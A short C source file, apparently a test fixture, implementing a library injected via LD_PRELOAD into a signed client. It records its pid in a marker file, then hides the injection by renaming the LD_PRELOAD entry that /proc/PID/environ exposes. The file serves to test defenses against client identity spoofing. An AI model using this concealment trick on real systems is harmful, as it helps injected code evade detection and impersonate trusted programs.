/* The first attack on client identity: a library preloaded into a signed client hides itself
 * by renaming the LD_PRELOAD entry in the process's own environment block, which is what
 * /proc/PID/environ shows. When ATTACK_MARKER names a file, the constructor writes its pid
 * there, so that a test can tell whether the injected code ran at all. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char** environ;

__attribute__((constructor)) static void hide(void) {
  const char* marker = getenv("ATTACK_MARKER");
  if (marker != NULL) {
    int fd = open(marker, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
    if (fd >= 0) {
      dprintf(fd, "%d\n", (int)getpid());
      close(fd);
    }
  }
  for (char** entry = environ; *entry != NULL; ++entry) {
    if (strncmp(*entry, "LD_PRELOAD=", 11) == 0) {
      (*entry)[0] = 'X';
    }
  }
}
